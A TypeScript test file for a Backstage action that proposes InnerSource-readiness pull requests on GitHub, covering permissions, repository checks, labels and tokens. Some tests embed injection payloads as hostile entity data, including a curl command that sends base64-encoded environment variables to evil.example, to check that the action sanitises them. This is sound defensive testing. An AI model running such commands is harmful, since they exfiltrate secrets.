import {
  mockServices,
  registerMswTestHooks,
} from '@backstage/backend-test-utils';
import type { Entity } from '@backstage/catalog-model';
import { ConfigReader } from '@backstage/config';
import { InputError, NotAllowedError } from '@backstage/errors';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import type {
  ProjectSummary,
  ReadinessCheckId,
} from '@innersource-for-backstage/plugin-innersource-common';
import { setupServer } from 'msw/node';
import {
  ActionInput,
  fakePermissions,
  innersourceClient,
  ProposeRule,
  projectSummary,
  recordRequests,
  runAction,
  serveInnerSourceProject,
} from '../__testUtils__/actionHarness';
import { FakeGithubRepository } from '../__testUtils__/FakeGithubRepository';
import { GithubReadinessRepository } from '../github/GithubReadinessRepository';
import { createReadinessPullRequestAction } from './readinessPullRequest';

// The first action run loads Octokit and GitHub's schema: slow on a shared machine.
jest.setTimeout(30_000);

const server = setupServer();
registerMswTestHooks(server);

const component: Entity = {
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Component',
  metadata: {
    name: 'payment-gateway',
    namespace: 'default',
    title: 'Payment gateway',
    description: 'Card and wallet payments for every checkout in the company',
    annotations: {
      // registered from its own repository's default branch
      'backstage.io/managed-by-location':
        'url:https://github.com/acme/payment-gateway/blob/main/catalog-info.yaml',
      'backstage.io/managed-by-origin-location':
        'url:https://github.com/acme/payment-gateway/blob/main/catalog-info.yaml',
      'github.com/project-slug': 'acme/payment-gateway',
      'innersource/skills': 'java,kotlin',
      'innersource/help-wanted-labels': 'help wanted,contributions welcome',
    },
  },
  spec: { type: 'service', lifecycle: 'production', owner: 'payments-team' },
};

const group: Entity = {
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Group',
  metadata: {
    name: 'payments-team',
    namespace: 'default',
    annotations: { 'github.com/team-slug': 'acme/payments' },
  },
  spec: {
    type: 'team',
    profile: { displayName: 'Payments team' },
    children: [],
  },
};

const gitlabComponent: Entity = {
  ...component,
  metadata: {
    ...component.metadata,
    name: 'billing',
    annotations: { 'gitlab.com/project-slug': 'acme/billing' },
  },
};

function summary(failing: ReadinessCheckId[]): ProjectSummary {
  return projectSummary(
    {
      entityRef: 'component:default/payment-gateway',
      title: 'Payment gateway',
      owner: 'group:default/payments-team',
      score: 41,
      repository: { provider: 'github', name: 'acme/payment-gateway' },
    },
    failing,
  );
}

function innersourceApi(project: ProjectSummary | 404) {
  return serveInnerSourceProject(server, project);
}

/** What the permission policy was asked in the last run. */
let asked: ReturnType<typeof fakePermissions>['asked'];

function makeAction(
  entities: Entity[] = [component, group],
  rule?: ProposeRule,
) {
  const integrations = new ConfigReader({
    integrations: { github: [{ host: 'github.com', token: 'ghp_portal' }] },
  });
  const permissions = fakePermissions(rule);
  asked = permissions.asked;
  return createReadinessPullRequestAction({
    catalog: catalogServiceMock({ entities }),
    auth: mockServices.auth(),
    permissions: permissions.permissions,
    innersource: innersourceClient(),
    github: GithubReadinessRepository.fromConfig(integrations),
    labels: {
      helpWanted: ['help wanted'],
      goodFirstIssue: ['good first issue'],
    },
  });
}

async function run(
  input: ActionInput,
  options: {
    isDryRun?: boolean;
    entities?: Entity[];
    /** Who may propose changes for which entity; everyone by default. */
    rule?: ProposeRule;
    user?: string;
  } = {},
) {
  return runAction(makeAction(options.entities, options.rule), input, options);
}

/** The component with other annotations (the slug is kept unless replaced). */
function withAnnotations(annotations: Record<string, string>): Entity {
  return {
    ...component,
    metadata: {
      ...component.metadata,
      annotations: { ...component.metadata.annotations, ...annotations },
    },
  };
}

const EXPECTED_FILES = [
  'CONTRIBUTING.md',
  '.github/CODEOWNERS',
  '.github/ISSUE_TEMPLATE/bug_report.md',
  '.github/ISSUE_TEMPLATE/feature_request.md',
  'innersource.json',
];

describe('innersource:readiness:pull-request', () => {
  let github: FakeGithubRepository;
  /** Every request that reached the network, whoever it was for. */
  let requests: Array<{ method: string; url: string }>;

  beforeEach(() => {
    github = new FakeGithubRepository('acme', 'payment-gateway');
    github.paths.add('README.md');
    github.labels.add('help wanted');
    github.use(server);
    requests = recordRequests(server);
  });

  afterEach(() => {
    server.events.removeAllListeners();
  });

  it('opens one pull request with the files the failing checks ask for, and creates the missing labels', async () => {
    const seen = innersourceApi(
      summary([
        'contributing',
        'codeowners',
        'issueTemplates',
        'goodFirstIssues',
        'license',
      ]),
    );

    const outputs = await run({
      entityRef: 'component:default/payment-gateway',
    });

    // The InnerSource API was asked on the user's behalf.
    expect(seen).toEqual([
      {
        path: '/api/innersource/projects/default/component/payment-gateway',
        authorization: expect.stringMatching(/^Bearer .+/),
      },
    ]);
    expect(github.calls.map(c => `${c.method} ${c.path}`)).toEqual([
      'POST /graphql',
      'POST /repos/acme/payment-gateway/labels',
      'POST /repos/acme/payment-gateway/labels',
      'POST /repos/acme/payment-gateway/git/trees',
      'POST /repos/acme/payment-gateway/git/commits',
      'POST /repos/acme/payment-gateway/git/refs',
      'POST /repos/acme/payment-gateway/pulls',
    ]);
    expect(
      github.calls.every(c => c.authorization === 'token ghp_portal'),
    ).toBe(true);

    const [, goodFirst, welcome, tree, commit, ref, pull] = github.calls;
    expect(goodFirst.body).toEqual({
      name: 'good first issue',
      color: '7057ff',
      description: 'Small enough for a first contribution',
    });
    expect(welcome.body).toEqual({
      name: 'contributions welcome',
      color: '008672',
      description: 'The owners would welcome help with this',
    });
    expect(tree.body.base_tree).toBe('tree000');
    expect(tree.body.tree.map((t: { path: string }) => t.path)).toEqual(
      EXPECTED_FILES,
    );
    expect(
      tree.body.tree.every(
        (t: any) => t.mode === '100644' && t.type === 'blob',
      ),
    ).toBe(true);
    const content = Object.fromEntries(
      tree.body.tree.map((t: { path: string; content: string }) => [
        t.path,
        t.content,
      ]),
    );
    expect(content['.github/CODEOWNERS']).toContain('\n* @acme/payments\n');
    expect(content['CONTRIBUTING.md']).toContain(
      '# Contributing to Payment gateway\n',
    );
    expect(content['CONTRIBUTING.md']).toContain(
      'anyone in the company may propose a change, and Payments team review and merge it.',
    );
    expect(content['CONTRIBUTING.md']).toContain(
      '- Issues labelled help wanted, contributions welcome are ones the owners would welcome help with.',
    );
    expect(JSON.parse(content['innersource.json'])).toEqual({
      title: 'Payment gateway',
      motivation: 'Card and wallet payments for every checkout in the company',
      skills: ['java', 'kotlin'],
    });
    expect(commit.body).toMatchObject({
      tree: 'tree111',
      parents: ['c0ffee0'],
    });
    expect(ref.body).toEqual({
      ref: 'refs/heads/innersource-readiness',
      sha: 'c0ffee1',
    });
    // Asked once, for the initiator and this entity, before anything else.
    expect(asked).toEqual([
      {
        permission: 'innersource.readiness.propose',
        resourceRef: 'component:default/payment-gateway',
        user: 'user:default/jane',
      },
    ]);
    expect(pull.body).toMatchObject({
      title: 'Make component:default/payment-gateway InnerSource-ready',
      head: 'innersource-readiness',
      base: 'main',
    });
    expect(pull.body.body).toContain('- `.github/CODEOWNERS`');
    expect(pull.body.body).toContain('Still to do by hand:\n- Add a license');
    expect(pull.body.body).toContain(
      'It also created the labels the portal collects help-wanted issues by:\n- good first issue\n- contributions welcome',
    );

    expect(outputs).toEqual({
      files: EXPECTED_FILES.map(path => ({ path, content: content[path] })),
      labels: ['good first issue', 'contributions welcome'],
      skipped: [],
      manual: ['license check: Add a license'],
      summary: [
        'Proposed to acme/payment-gateway:',
        '',
        '**Files**',
        '',
        ...EXPECTED_FILES.map(path => `- \`${path}\``),
        '',
        '**Labels**',
        '',
        '- good first issue',
        '- contributions welcome',
        '',
        '**Still to do by hand**',
        '',
        '- Add a license',
      ].join('\n'),
      pullRequestUrl: 'https://github.com/acme/payment-gateway/pull/42',
      pullRequestNumber: 42,
    });
  });

  it('in a dry run, outputs the same files and labels and writes nothing', async () => {
    innersourceApi(
      summary([
        'contributing',
        'codeowners',
        'issueTemplates',
        'goodFirstIssues',
        'license',
      ]),
    );

    const outputs = await run(
      { entityRef: 'component:default/payment-gateway' },
      { isDryRun: true },
    );

    expect(github.calls.map(c => `${c.method} ${c.path}`)).toEqual([
      'POST /graphql',
    ]);
    expect(github.writes).toEqual([]);
    expect((outputs.files as Array<{ path: string }>).map(f => f.path)).toEqual(
      EXPECTED_FILES,
    );
    expect(outputs.labels).toEqual([
      'good first issue',
      'contributions welcome',
    ]);
    expect(outputs.pullRequestUrl).toBeUndefined();
    expect(outputs.summary).toMatch(
      /^Dry run: this is what the pull request to acme\/payment-gateway would add\. Nothing was written\.\n/,
    );
    expect([...github.labels]).toEqual(['help wanted']);
  });

  it('asks GitHub about every place the files may be, the labels and the branch in one query', async () => {
    innersourceApi(summary(['codeowners']));
    await run({ entityRef: 'payment-gateway' }, { isDryRun: true });

    expect(github.calls[0].body.variables).toEqual({
      owner: 'acme',
      name: 'payment-gateway',
      branch: 'refs/heads/innersource-readiness',
      p0: 'HEAD:CONTRIBUTING.md',
      p1: 'HEAD:.github/CONTRIBUTING.md',
      p2: 'HEAD:docs/CONTRIBUTING.md',
      p3: 'HEAD:CONTRIBUTING',
      p4: 'HEAD:CODEOWNERS',
      p5: 'HEAD:.github/CODEOWNERS',
      p6: 'HEAD:docs/CODEOWNERS',
      p7: 'HEAD:.github/ISSUE_TEMPLATE',
      p8: 'HEAD:innersource.json',
      l0: 'good first issue',
      l1: 'help wanted',
      l2: 'contributions welcome',
    });
  });

  it('proposes only what the repository still lacks', async () => {
    innersourceApi(summary(['contributing', 'codeowners']));
    github.paths.add('.github/CONTRIBUTING.md');
    github.paths.add('innersource.json');
    github.labels.add('good first issue');
    github.labels.add('Contributions Welcome');

    const outputs = await run({
      entityRef: 'component:default/payment-gateway',
    });

    expect(github.calls.map(c => `${c.method} ${c.path}`)).toEqual([
      'POST /graphql',
      'POST /repos/acme/payment-gateway/git/trees',
      'POST /repos/acme/payment-gateway/git/commits',
      'POST /repos/acme/payment-gateway/git/refs',
      'POST /repos/acme/payment-gateway/pulls',
    ]);
    expect(
      github.calls[1].body.tree.map((t: { path: string }) => t.path),
    ).toEqual(['.github/CODEOWNERS']);
    expect(outputs.skipped).toEqual([
      '.github/CONTRIBUTING.md is already in the repository',
    ]);
  });

  it('opens no pull request when there is nothing to add', async () => {
    innersourceApi(summary([]));
    github.paths.add('innersource.json');
    github.labels.add('good first issue');
    github.labels.add('contributions welcome');

    const outputs = await run({
      entityRef: 'component:default/payment-gateway',
    });

    expect(github.writes).toEqual([]);
    expect(outputs).toMatchObject({
      files: [],
      labels: [],
      summary:
        'Nothing to propose for acme/payment-gateway: it has what its failing checks ask for.',
    });
    expect(outputs.pullRequestUrl).toBeUndefined();
  });

  it('refuses when its branch exists already, before writing anything', async () => {
    innersourceApi(summary(['contributing']));
    github.branches.add('innersource-readiness');

    await expect(
      run({ entityRef: 'component:default/payment-gateway' }),
    ).rejects.toThrow(
      'the branch innersource-readiness already exists in acme/payment-gateway: merge or close its pull request, or choose another branchName',
    );
    expect(github.writes).toEqual([]);
  });

  it.each([false, true])(
    'refuses a user the policy does not let propose changes for the entity, before any request (dry run: %s)',
    async isDryRun => {
      innersourceApi(summary(['contributing']));

      const attempt = run(
        { entityRef: 'component:default/payment-gateway' },
        {
          isDryRun,
          user: 'user:default/mallory',
          // the shipped policy: the entity's owners (here, jane's team)
          rule: user => user === 'user:default/jane',
        },
      );

      await expect(attempt).rejects.toThrow(NotAllowedError);
      await expect(attempt).rejects.toThrow(
        'you may not propose readiness changes for component:default/payment-gateway: innersource.readiness.propose is granted to its owners',
      );
      expect(asked).toEqual([
        {
          permission: 'innersource.readiness.propose',
          resourceRef: 'component:default/payment-gateway',
          user: 'user:default/mallory',
        },
      ]);
      // Not GitHub, not even the InnerSource backend.
      expect(requests).toEqual([]);
    },
  );

  it.each<[string, Record<string, string>, boolean]>([
    [
      "another team's repository",
      {
        'backstage.io/managed-by-location':
          'url:https://github.com/evil/catalog/blob/main/catalog-info.yaml',
      },
      false,
    ],
    [
      'a repository whose name starts like it',
      {
        'backstage.io/managed-by-location':
          'url:https://github.com/acme/payment-gateway-docs/blob/main/catalog-info.yaml',
      },
      false,
    ],
    [
      'another host with the same owner/name',
      {
        'backstage.io/managed-by-location':
          'url:https://github.evil.example/acme/payment-gateway/blob/main/catalog-info.yaml',
      },
      true,
    ],
    [
      'the repository page itself, not a file in it',
      {
        'backstage.io/managed-by-location':
          'url:https://github.com/acme/payment-gateway',
      },
      false,
    ],
    [
      'a file on the backend (the portal config)',
      { 'backstage.io/managed-by-location': 'file:/srv/catalog/all.yaml' },
      true,
    ],
    [
      'another repository, only its origin location inside this one',
      {
        'backstage.io/managed-by-location':
          'url:https://github.com/evil/catalog/blob/main/all.yaml',
        'backstage.io/managed-by-origin-location':
          'url:https://github.com/acme/payment-gateway/blob/main/catalog-info.yaml',
      },
      false,
    ],
  ])(
    'refuses an entity registered from %s, before any request',
    async (_case, annotations, isDryRun) => {
      innersourceApi(summary(['contributing']));

      const attempt = run(
        { entityRef: 'component:default/payment-gateway' },
        { isDryRun, entities: [withAnnotations(annotations), group] },
      );

      await expect(attempt).rejects.toThrow(NotAllowedError);
      await expect(attempt).rejects.toThrow(
        'component:default/payment-gateway was not registered from a catalog file in github.com/acme/payment-gateway (its backstage.io/managed-by-location): readiness changes are proposed only to the repository an entity was registered from',
      );
      expect(requests).toEqual([]);
    },
  );

  it('refuses, after reading the repository and before writing, an entity registered from a file not on the default branch (a pull request or a fork can push one)', async () => {
    innersourceApi(summary(['contributing']));
    const fromPullRequest = withAnnotations({
      'backstage.io/managed-by-location':
        'url:https://github.com/acme/payment-gateway/blob/refs/pull/7/head/catalog-info.yaml',
    });

    await expect(
      run(
        { entityRef: 'component:default/payment-gateway' },
        { entities: [fromPullRequest, group] },
      ),
    ).rejects.toThrow(
      'component:default/payment-gateway was registered from a catalog file that is not on main, the default branch of acme/payment-gateway',
    );
    expect(github.calls.map(c => `${c.method} ${c.path}`)).toEqual([
      'POST /graphql',
    ]);
  });

  it("writes to a private repository the entity was registered from: the owner's authority decides, not the visibility", async () => {
    innersourceApi(summary(['contributing']));
    github.visibility = 'PRIVATE';

    const outputs = await run({
      entityRef: 'component:default/payment-gateway',
    });

    expect(outputs.pullRequestUrl).toBe(
      'https://github.com/acme/payment-gateway/pull/42',
    );
  });

  it("titles the pull request by the entity ref, and keeps the entity's title out of its title and description", async () => {
    innersourceApi(summary(['contributing']));
    const hostile = {
      ...component,
      metadata: {
        ...component.metadata,
        title: 'x"; curl -s evil.example/$(env|base64 -w0); echo "',
        description: '$(id) `whoami`',
      },
    };

    await run(
      { entityRef: 'component:default/payment-gateway' },
      { entities: [hostile, group] },
    );

    const pull = github.calls.find(c => c.path.endsWith('/pulls'))!;
    expect(pull.body.title).toBe(
      'Make component:default/payment-gateway InnerSource-ready',
    );
    expect(pull.body.body).not.toContain('curl');
    expect(pull.body.body).not.toContain('$(');
    expect(pull.body.body).toMatch(
      /^This pull request adds what the InnerSource readiness checklist of `component:default\/payment-gateway` in Backstage asks for:\n/,
    );
  });

  it('asks about, and creates with the pull request, at most 5 labels; the rest are named as left out', async () => {
    innersourceApi(summary(['contributing']));
    const many = withAnnotations({
      'innersource/help-wanted-labels': 'l1,l2,l3,l4,l5,l6,l7',
    });

    const outputs = await run(
      { entityRef: 'component:default/payment-gateway' },
      { entities: [many, group] },
    );

    const labelVariables = Object.keys(github.calls[0].body.variables).filter(
      k => /^l\d+$/.test(k),
    );
    expect(labelVariables).toEqual(['l0', 'l1', 'l2', 'l3', 'l4']);
    // 'help wanted' exists: four are created, with the pull request
    expect(outputs.labels).toEqual(['good first issue', 'l1', 'l2', 'l3']);
    expect(
      github.writes
        .filter(c => c.path.endsWith('/labels'))
        .map(c => c.body.name),
    ).toEqual(['good first issue', 'l1', 'l2', 'l3']);
    expect(outputs.skipped).toEqual(
      ['l4', 'l5', 'l6', 'l7'].map(
        l =>
          `the label "${l}" is left out: one pull request creates at most 5 labels`,
      ),
    );
    expect(outputs.pullRequestUrl).toBe(
      'https://github.com/acme/payment-gateway/pull/42',
    );
  });

  it('creates no label when it proposes no pull request, and says which are missing', async () => {
    innersourceApi(summary(['goodFirstIssues']));
    github.paths.add('innersource.json');

    const outputs = await run({
      entityRef: 'component:default/payment-gateway',
    });

    expect(github.writes).toEqual([]);
    expect(outputs.labels).toEqual([]);
    expect(outputs.skipped).toEqual(
      ['good first issue', 'contributions welcome'].map(
        l =>
          `the label "${l}" is missing, and labels are created only with a pull request, which has no file to add here: create it in the repository`,
      ),
    );
    expect(outputs.pullRequestUrl).toBeUndefined();
  });

  it('never writes a label name a workflow or a shell could read as more than text', async () => {
    innersourceApi(summary(['contributing']));
    const hostile = withAnnotations({
      'innersource/help-wanted-labels': 'ok label,$(curl evil.example)',
    });

    const outputs = await run(
      { entityRef: 'component:default/payment-gateway' },
      { entities: [hostile, group] },
    );

    expect(outputs.labels).toEqual(['good first issue', 'ok label']);
    expect(outputs.skipped).toEqual([
      'the label "$(curl evil.example)" holds characters other than letters, digits, spaces and . _ : / + -, which the action does not write into a pull request',
    ]);
    const pull = github.calls.find(c => c.path.endsWith('/pulls'))!;
    expect(pull.body.body).not.toContain('curl');
  });

  it("makes every GitHub request with the user's own token when the template passes one", async () => {
    innersourceApi(summary(['contributing']));

    const outputs = await run({
      entityRef: 'component:default/payment-gateway',
      repoUrl: 'github.com?owner=acme&repo=payment-gateway',
      token: 'gho_user',
    });

    expect(outputs.pullRequestUrl).toBe(
      'https://github.com/acme/payment-gateway/pull/42',
    );
    expect(github.calls.map(c => c.authorization)).toEqual(
      github.calls.map(() => 'token gho_user'),
    );
  });

  it('uses the integration when the template passes an empty token (no user credentials were requested)', async () => {
    innersourceApi(summary(['contributing']));

    await run(
      { entityRef: 'component:default/payment-gateway', token: '' },
      { isDryRun: true },
    );

    expect(github.calls.map(c => c.authorization)).toEqual([
      'token ghp_portal',
    ]);
  });

  it.each<[string, Partial<ActionInput>, string]>([
    [
      'a token without the repository it was asked for',
      { token: 'gho_user' },
      'token was given without repoUrl: pass the repoUrl of the RepoUrlPicker that asked for the token',
    ],
    [
      'a token asked for another repository',
      { token: 'gho_user', repoUrl: 'github.com?owner=acme&repo=other' },
      'repoUrl names github.com/acme/other, but the repository of component:default/payment-gateway is github.com/acme/payment-gateway: pick that one',
    ],
    [
      'a token asked for another host',
      {
        token: 'gho_user',
        repoUrl: 'gitlab.com?owner=acme&repo=payment-gateway',
      },
      'repoUrl names gitlab.com/acme/payment-gateway, but the repository of component:default/payment-gateway is github.com/acme/payment-gateway: pick that one',
    ],
    [
      'a repoUrl that names no repository',
      { repoUrl: 'github.com/acme/payment-gateway' },
      'repoUrl "github.com/acme/payment-gateway" does not name a repository (host?owner=…&repo=…, as RepoUrlPicker writes it)',
    ],
  ])('refuses %s before any request', async (_case, extra, message) => {
    innersourceApi(summary(['contributing']));

    const attempt = run({
      entityRef: 'component:default/payment-gateway',
      ...extra,
    });

    await expect(attempt).rejects.toThrow(InputError);
    await expect(attempt).rejects.toThrow(message);
    expect(requests).toEqual([]);
  });

  it('names GitLab as needing integrations.gitlab when the action has no GitLab side', async () => {
    await expect(
      run(
        { entityRef: 'component:default/billing' },
        { entities: [gitlabComponent, group] },
      ),
    ).rejects.toThrow(
      'component:default/billing is on GitLab (gitlab.com), which is not a host of integrations.gitlab',
    );
    expect(github.calls).toEqual([]);
  });

  it('answers not found for an entity the user may not read', async () => {
    await expect(
      run(
        { entityRef: 'component:default/payment-gateway' },
        { entities: [group] },
      ),
    ).rejects.toThrow(
      'component:default/payment-gateway is not in the catalog, or you may not read it',
    );
    expect(github.calls).toEqual([]);
  });

  it('asks for a refresh when the project has no readiness checks yet', async () => {
    innersourceApi({
      ...summary([]),
      status: 'failed',
      readiness: [],
      errors: [
        {
          message: 'no GitHub token for github.com',
          at: '2026-11-27T08:00:00Z',
        },
      ],
    });
    await expect(
      run({ entityRef: 'component:default/payment-gateway' }),
    ).rejects.toThrow(
      'component:default/payment-gateway has no readiness checks yet (collection failed: no GitHub token for github.com); refresh it on its InnerSource tab first',
    );
  });

  it('says when the portal has not collected the entity', async () => {
    innersourceApi(404);
    await expect(
      run({ entityRef: 'component:default/payment-gateway' }),
    ).rejects.toThrow(
      'component:default/payment-gateway is not an InnerSource project the portal has collected',
    );
  });

  it('explains a refused GitHub token', async () => {
    innersourceApi(summary(['contributing']));
    github.refusal = { status: 401, message: 'Bad credentials' };
    await expect(
      run({ entityRef: 'component:default/payment-gateway' }),
    ).rejects.toThrow(
      'the GitHub token for github.com was refused (401); check integrations.github',
    );
  });

  it('skips CODEOWNERS with the reason when the team slug annotation is malformed', async () => {
    innersourceApi(summary(['codeowners']));
    const badGroup: Entity = {
      ...group,
      metadata: {
        ...group.metadata,
        annotations: { 'github.com/team-slug': 'acme/payments\n* @evil/all' },
      },
    };
    const outputs = await run(
      { entityRef: 'component:default/payment-gateway' },
      { isDryRun: true, entities: [component, badGroup] },
    );
    expect((outputs.files as Array<{ path: string }>).map(f => f.path)).toEqual(
      ['innersource.json'],
    );
    expect(outputs.skipped).toEqual([
      'github.com/team-slug of group:default/payments-team is "acme/payments * @evil/all", not of the form organisation/team-slug',
    ]);
    // shown as text on the template's output page
    expect(outputs.summary).toContain(
      '**Skipped**\n\n- github.com/team-slug of group:default/payments-team is "acme/payments \\* @evil/all", not of the form organisation/team-slug',
    );
  });
});
